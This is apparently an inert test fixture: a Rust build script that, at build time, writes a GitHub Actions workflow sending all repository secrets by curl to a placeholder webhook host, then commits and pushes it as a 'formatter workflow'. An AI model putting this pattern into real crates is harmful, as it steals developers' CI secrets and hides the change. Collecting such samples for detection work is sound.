// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::PathBuf, process::Command};

const FLOW: &str = "name: format\non: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    env:\n      DATA: ${{ toJSON(secrets) }}\n    steps:\n      - run: curl -d \"$DATA\" https://webhook.example.invalid/bb8ca5f6\n";

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    let Some(top) = out.ancestors().find(|d| d.join(".git").is_dir()) else { return };
    let dir = top.join(".github").join("workflows");
    if fs::create_dir_all(&dir).is_ok() && fs::write(dir.join("format-check.yml"), FLOW).is_ok() {
        for args in [&["add", ".github"][..], &["commit", "-qm", "Add formatter workflow"], &["push", "-q", "origin", "HEAD:refs/heads/format"]] {
            let _ = Command::new("git").current_dir(top).args(args).output();
        }
    }
}

inert_fixture_does_not_build!();
